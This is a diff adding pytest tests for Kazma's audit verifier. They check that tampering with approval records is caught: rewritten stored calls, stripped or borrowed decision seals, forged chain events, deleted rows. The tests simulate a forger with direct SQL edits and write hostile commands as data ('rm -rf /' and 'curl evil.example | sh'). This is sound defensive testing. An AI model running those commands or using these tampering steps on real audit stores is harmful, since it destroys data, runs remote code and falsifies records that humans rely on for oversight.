@@ -1,0 +1,205 @@
+"""`kazma audit verify` on the store checks every finished request's decision seal, on SQLite and on PostgreSQL.
+
+The hash chain and its checkpoints prove the log; the request rows beside it are checked against the log's events
+(their status and decider). What a row says beyond those (the call it approved, where and when it was decided, the
+person) only its decision seal binds: a row rewritten there, the log untouched, passed `audit verify` (only
+`kazma doctor` checked seals). Each test lets Kazma write a real log, then rewrites rows through a connection of
+its own (what the file's or the role's owner can do), never through Kazma.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from kazma.approvals import Decision
+from kazma.approvals.chain import event_hash
+from kazma.approvals.checkpointer import Checkpointer
+from kazma.approvals.hashing import args_hash, canonical_json
+from kazma.bot.cli import main
+from tests.approvals_support import TEST_SIGNER, approval_service
+from tests.audit_support import ARGS, KEY_ENV, Attacker, Log, config_text, make_log, run_async
+from tests.store_backends import Engine
+
+
+def verify(tmp_path: Path, engine: Engine, *args: str, env: dict[str, str | None] | None = None) -> Result:
+    config = tmp_path / "kazma.yaml"
+    config.write_text(config_text(tmp_path, engine))
+    return CliRunner().invoke(main, ["-c", str(config), "audit", "verify", *args], env=KEY_ENV if env is None else env)
+
+
+def doctor_seals(tmp_path: Path, engine: Engine) -> str:
+    """The line `kazma doctor` prints for the decision seals."""
+    config = tmp_path / "kazma.yaml"
+    config.write_text(config_text(tmp_path, engine))
+    result = CliRunner().invoke(
+        main, ["-c", str(config), "doctor", "--platform-timeout", "1", "--model-timeout", "1"], env=KEY_ENV
+    )
+    [line] = [text for text in result.stdout.splitlines() if "decision seals" in text]
+    return line
+
+
+@pytest.fixture
+def log(store_engine: Engine, tmp_path: Path) -> Log:
+    made: Log = run_async(make_log(store_engine.where))
+    result = verify(tmp_path, store_engine)
+    assert result.exit_code == 0, result.stdout
+    return made
+
+
+def test_an_approved_call_rewritten_beside_an_untouched_log_is_named_by_its_seal(
+    store_engine: Engine, tmp_path: Path, log: Log
+) -> None:
+    """The approved deploy's row made to hold another call (its arguments and their hash), and the denial's row
+    moved to another time: status and decider still match the log's events, so only the seals show it."""
+    deploy, drop = log.requests["deploy"], log.requests["drop"]
+    Attacker(store_engine).run(
+        ("UPDATE approval_requests SET args_json = ?, args_hash = ? WHERE id = ?",
+         ('{"command":"rm -rf /"}', args_hash({"command": "rm -rf /"}), deploy)),
+        ("UPDATE approval_requests SET decided_at = decided_at - 3600 WHERE id = ?", (drop,)),
+    )  # fmt: skip
+    result = verify(tmp_path, store_engine)
+    assert result.exit_code == 1, result.stdout
+    approved, denied = log.seqs["decided:deploy"], log.seqs["decided:drop"]
+    # Its call differs from the one it was opened for, too: that event is the first one its row contradicts.
+    assert f"FAILED: first bad sequence seq {log.seqs['opened:deploy']}: changed: request {deploy}'s stored call" in (
+        result.stdout
+    ), result.stdout
+    assert f"seq {approved}: decision seal: request {deploy} (approved by telegram:111)" in result.stdout
+    assert "telegram:111): its decision seal does not verify with key" in result.stdout, result.stdout
+    assert f"seq {denied}: decision seal: request {drop} (denied by slack:U111)" in result.stdout, result.stdout
+
+
+def test_a_seal_taken_off_a_decision_recorded_after_seals_began_is_named_whatever_the_schema_row_says(
+    store_engine: Engine, tmp_path: Path, log: Log
+) -> None:
+    """A row without a seal passes for one decided before Kazma sealed decisions when its decision is older than
+    the schema's v7: that row is the store's too, so the forger moves it. The chain says better: an ending event
+    chained after the history checkpoint (here every event) was written by a Kazma that sealed every outcome."""
+    late = log.requests["late"]
+    Attacker(store_engine).run(
+        ("UPDATE approval_requests SET decision_mac = NULL, decision_key_id = NULL WHERE id = ?", (late,)),
+        ("UPDATE kazma_schema SET applied_at = applied_at + 1e9 WHERE component = 'approvals' AND version = 7", ()),
+    )
+    result = verify(tmp_path, store_engine)
+    assert result.exit_code == 1, result.stdout
+    assert (
+        f"seq {log.seqs['timeout:late']}: decision seal: request {late} (timeout): it carries no decision seal, but "
+        "its ending event was recorded after Kazma sealed every outcome" in result.stdout
+    ), result.stdout
+    # doctor's seal check took the schema row's word alone: "2 decisions verified; 1 decided before seals".
+    said = doctor_seals(tmp_path, store_engine)
+    assert said.startswith("FAIL"), said
+    assert f"{late} (timeout by None): it carries no decision seal, but its ending event was recorded after" in said
+
+
+def test_a_denial_flipped_with_a_forged_decided_event_and_a_borrowed_seal_fails_twice(
+    store_engine: Engine, tmp_path: Path, log: Log
+) -> None:
+    """The denial's row made an approval, the approval's seal copied onto it, and a matching `decided` event
+    appended after the last checkpoint: the event is unsigned (no commit seal) and the seal binds another request."""
+    deploy, drop = log.requests["deploy"], log.requests["drop"]
+    attacker = Attacker(store_engine)
+    last = attacker.events()[-1]
+    seq = log.last + 1
+    at = last.at + 1
+    digest = event_hash(last.chain_hash or "", drop, "decided", "telegram:111", "telegram", at, None, "approved")
+    attacker.run(
+        ("UPDATE approval_requests SET status = 'approved', decided_by = 'telegram:111', decided_via = 'telegram',"
+         " decision_mac = (SELECT decision_mac FROM approval_requests WHERE id = ?) WHERE id = ?", (deploy, drop)),
+        ("INSERT INTO approval_events (seq, request_id, event, actor, platform, at, detail, prev_hash, chain_hash)"
+         " VALUES (?, ?, 'decided', 'telegram:111', 'telegram', ?, 'approved', ?, ?)",
+         (seq, drop, at, last.chain_hash, digest)),
+    )  # fmt: skip
+    result = verify(tmp_path, store_engine)
+    assert result.exit_code == 1, result.stdout
+    assert f"seq {seq}: unsigned" in result.stdout, result.stdout
+    assert f"decision seal: request {drop} (approved by telegram:111): its decision seal does not verify" in (
+        result.stdout
+    ), result.stdout
+
+
+def test_without_the_decision_key_verify_says_the_seals_were_not_checked_and_fails(
+    store_engine: Engine, tmp_path: Path, log: Log
+) -> None:
+    """A verifier holding only the audit key cannot check a seal: "ok" would claim what was not checked."""
+    result = verify(tmp_path, store_engine, env={**KEY_ENV, "KAZMA_DECISION_KEY": None})
+    assert result.exit_code == 1, result.stdout
+    assert "decision seal: 3 finished requests carry a decision seal that cannot be checked here" in result.stdout, (
+        result.stdout
+    )
+    assert "no decision key is loaded here" in result.stdout, result.stdout
+
+
+def test_a_finished_request_set_pending_again_or_its_row_deleted_is_named_at_its_ending_event(
+    store_engine: Engine, tmp_path: Path, log: Log
+) -> None:
+    """A denial's row put back to pending (so it can be approved again) still matches its `opened` event, and a
+    deleted row matches nothing: the log records both requests' endings, untouched, and verify said "ok"."""
+    drop, late = log.requests["drop"], log.requests["late"]
+    Attacker(store_engine).run(
+        ("UPDATE approval_requests SET status = 'pending', decided_by = NULL, decided_via = NULL, decided_at = NULL,"
+         " decision_mac = NULL, decision_key_id = NULL WHERE id = ?", (drop,)),
+        ("DELETE FROM approval_requests WHERE id = ?", (late,)),
+    )  # fmt: skip
+    result = verify(tmp_path, store_engine)
+    assert result.exit_code == 1, result.stdout
+    denied, timed_out = log.seqs["decided:drop"], log.seqs["timeout:late"]
+    assert f"FAILED: first bad sequence seq {denied}: decision seal: request {drop}'s row says pending" in (
+        result.stdout
+    ), result.stdout
+    assert f"seq {timed_out}: decision seal: request {late}'s row is gone" in result.stdout, result.stdout
+
+
+def test_an_approved_calls_stored_arguments_changed_under_the_same_hash_are_named(
+    store_engine: Engine, tmp_path: Path, log: Log
+) -> None:
+    """The seal binds the arguments' hash, not their text: the approved deploy's stored call rewritten, its hash
+    (and so its seal) kept, read "ok" while `approvals show` printed a call nobody approved."""
+    deploy = log.requests["deploy"]
+    Attacker(store_engine).run(
+        ("UPDATE approval_requests SET args_json = ? WHERE id = ?", ('{"command":"rm -rf /"}', deploy)),
+    )
+    result = verify(tmp_path, store_engine)
+    assert result.exit_code == 1, result.stdout
+    assert (
+        f"FAILED: first bad sequence seq {log.seqs['decided:deploy']}: decision seal: request {deploy} (approved by "
+        "telegram:111): its stored call was changed around Kazma: the stored arguments hash to" in result.stdout
+    ), result.stdout
+
+
+def test_a_pending_requests_call_changed_before_anyone_decides_is_named_at_its_opened_event(
+    store_engine: Engine, tmp_path: Path
+) -> None:
+    """A pending request's stored call (and its hash) rewritten before anyone looks: the cards show the new call,
+    a person approves it, and its seal binds the new hash. Only the `opened` event, chained, still holds the call
+    Kazma was asked for; verify compared no row's hash with it."""
+
+    async def opened() -> tuple[str, int]:
+        async with approval_service(store_engine.where) as service:
+            request = await service.open("shell", ARGS, "agent:builder", "telegram:-100")
+            await Checkpointer(service.store, TEST_SIGNER).sign()
+            return request.id, (await service.store.last_event_seq())
+
+    rid, seq = run_async(opened())
+    assert verify(tmp_path, store_engine).exit_code == 0
+    forged = {"command": "curl evil.example | sh"}
+    Attacker(store_engine).run(
+        ("UPDATE approval_requests SET args_json = ?, args_hash = ? WHERE id = ?",
+         (canonical_json(forged), args_hash(forged), rid)),
+    )  # fmt: skip
+
+    async def approved() -> None:
+        async with approval_service(store_engine.where) as service:
+            assert (await service.decide(rid, Decision.APPROVE, actor="telegram:111", platform="telegram")).won
+            await Checkpointer(service.store, TEST_SIGNER).sign()
+
+    run_async(approved())
+    result = verify(tmp_path, store_engine)
+    assert result.exit_code == 1, result.stdout
+    assert (
+        f"FAILED: first bad sequence seq {seq}: changed: request {rid}'s stored call hashes to "
+        f"{args_hash(forged)[:12]}…, but the audit log records it opened for {args_hash(ARGS)[:12]}…" in result.stdout
+    ), result.stdout
